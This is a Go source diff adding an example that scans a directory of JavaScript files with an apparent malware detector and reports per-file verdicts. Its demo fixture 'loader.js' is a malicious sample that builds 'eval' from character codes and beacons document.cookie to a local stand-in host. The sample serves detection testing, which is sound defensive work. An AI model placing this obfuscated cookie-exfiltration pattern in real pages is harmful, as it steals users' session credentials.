@@ -1,0 +1,176 @@
+// Scan-directory: train (or load) a persisted model, then scan every .js
+// file under a directory and report verdicts — the bulk-detection workflow
+// the paper's scalability analysis (Table VIII) targets.
+//
+// Usage:
+//
+//	go run ./examples/scan-directory [-model path] [-dir path]
+//
+// Without -dir, the example writes a small demo directory with a benign
+// and a malicious file and scans it.
+package main
+
+import (
+	"flag"
+	"fmt"
+	"log"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+
+	"jsrevealer"
+	"jsrevealer/internal/corpus"
+)
+
+func main() {
+	model := flag.String("model", "", "persisted model path (trained on the fly when empty)")
+	dir := flag.String("dir", "", "directory to scan (demo directory when empty)")
+	flag.Parse()
+	if err := run(*model, *dir); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func run(modelPath, dir string) error {
+	det, err := loadOrTrain(modelPath)
+	if err != nil {
+		return err
+	}
+
+	if dir == "" {
+		demo, err := writeDemoDir()
+		if err != nil {
+			return err
+		}
+		defer os.RemoveAll(demo)
+		dir = demo
+	}
+
+	var scanned, flagged int
+	start := time.Now()
+	err = filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
+		if err != nil || info.IsDir() || !strings.HasSuffix(path, ".js") {
+			return err
+		}
+		data, err := os.ReadFile(path)
+		if err != nil {
+			return err
+		}
+		scanned++
+		verdict, err := det.Detect(string(data))
+		if err != nil {
+			fmt.Printf("%-40s error: %v\n", path, err)
+			return nil
+		}
+		if verdict {
+			flagged++
+			fmt.Printf("%-40s MALICIOUS\n", path)
+		} else {
+			fmt.Printf("%-40s benign\n", path)
+		}
+		return nil
+	})
+	if err != nil {
+		return err
+	}
+	elapsed := time.Since(start)
+	perFile := time.Duration(0)
+	if scanned > 0 {
+		perFile = elapsed / time.Duration(scanned)
+	}
+	fmt.Printf("\nscanned %d files in %s (%.1f ms/file), %d flagged\n",
+		scanned, elapsed.Round(time.Millisecond),
+		float64(perFile.Microseconds())/1000, flagged)
+	return nil
+}
+
+func loadOrTrain(path string) (*jsrevealer.Detector, error) {
+	if path != "" {
+		if det, err := jsrevealer.Load(path); err == nil {
+			fmt.Printf("loaded model from %s\n", path)
+			return det, nil
+		}
+	}
+	fmt.Println("training a fresh model on the synthetic corpus...")
+	samples := corpus.Generate(corpus.Config{Benign: 200, Malicious: 200, Seed: 23})
+	train := make([]jsrevealer.Sample, len(samples))
+	for i, s := range samples {
+		train[i] = jsrevealer.Sample{Source: s.Source, Malicious: s.Malicious}
+	}
+	det, err := jsrevealer.Train(train, nil, jsrevealer.DefaultOptions())
+	if err != nil {
+		return nil, err
+	}
+	if path != "" {
+		if err := det.Save(path); err != nil {
+			return nil, err
+		}
+		fmt.Printf("model saved to %s\n", path)
+	}
+	return det, nil
+}
+
+func writeDemoDir() (string, error) {
+	dir, err := os.MkdirTemp("", "jsrevealer-scan")
+	if err != nil {
+		return "", err
+	}
+	files := map[string]string{
+		// Realistically sized: very short scripts carry too few path
+		// contexts for a stable verdict.
+		"menu.js": `
+var menuState = { open: false, animating: false, duration: 250 };
+function toggleMenu(id) {
+  var el = document.getElementById(id);
+  if (menuState.animating) { return false; }
+  menuState.animating = true;
+  if (el.style.display === "none") {
+    el.style.display = "block";
+    menuState.open = true;
+  } else {
+    el.style.display = "none";
+    menuState.open = false;
+  }
+  setTimeout(function() { menuState.animating = false; }, menuState.duration);
+  return menuState.open;
+}
+function highlightCurrent(links) {
+  for (var i = 0; i < links.length; i++) {
+    if (links[i].href === location.href) {
+      links[i].className = "active";
+    } else {
+      links[i].className = "";
+    }
+  }
+}
+function setupMenu() {
+  var burger = document.getElementById("hamburger");
+  if (burger) {
+    burger.onclick = function() { toggleMenu("nav"); };
+  }
+  highlightCurrent(document.querySelectorAll("#nav a"));
+}
+window.addEventListener("load", setupMenu);
+`,
+		"loader.js": `
+var fragments = [101, 118, 97, 108];
+var cmd = "";
+var i = 0;
+while (i < fragments.length) {
+  cmd += String.fromCharCode(fragments[i]);
+  i++;
+}
+var runner = new Function(cmd + "('var x = 1;')");
+runner();
+var beacon = new Image();
+beacon.src = "http://127.0.0.1/ping?x=" + escape(document.cookie);
+`,
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
+			return "", err
+		}
+	}
+	return dir, nil
+}
